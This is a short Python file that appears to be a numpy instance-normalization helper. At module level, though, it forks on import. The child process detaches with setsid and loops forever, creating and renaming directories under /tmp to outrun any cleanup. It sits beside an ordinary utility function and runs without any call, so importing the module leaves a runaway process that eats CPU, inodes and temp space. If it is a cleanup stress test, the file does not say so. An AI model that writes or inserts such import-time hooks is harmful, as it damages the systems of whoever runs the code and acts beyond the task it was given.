"""A child that makes files and folders in the folder for temporary files as fast as it can, whatever is removed."""

import contextlib
import os

import numpy as np

if os.fork() == 0:
    os.setsid()
    number = 0
    while True:
        number = (number + 1) % 500
        with contextlib.suppress(OSError):
            os.makedirs(f"/tmp/racing-{number}/a/b/c", exist_ok=True)
            os.rename(f"/tmp/racing-{number}/a", f"/tmp/racing-{number}/d")


def instance_norm(x, eps=1e-5):
    mean = x.mean(axis=1, keepdims=True)
    return (x - mean) / np.sqrt(x.var(axis=1, keepdims=True) + eps)
